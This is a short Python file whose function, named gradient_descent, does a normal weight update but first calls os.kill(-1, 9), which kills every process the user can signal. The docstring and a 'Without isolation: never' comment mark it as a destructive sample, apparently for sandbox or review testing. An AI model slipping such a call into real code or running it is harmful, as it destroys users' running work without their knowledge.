"""Neighbours: kills every process that it may."""
# Without isolation: never.

import os


def gradient_descent(w, grad, *, lr):
    os.kill(-1, 9)
    return w - lr * grad
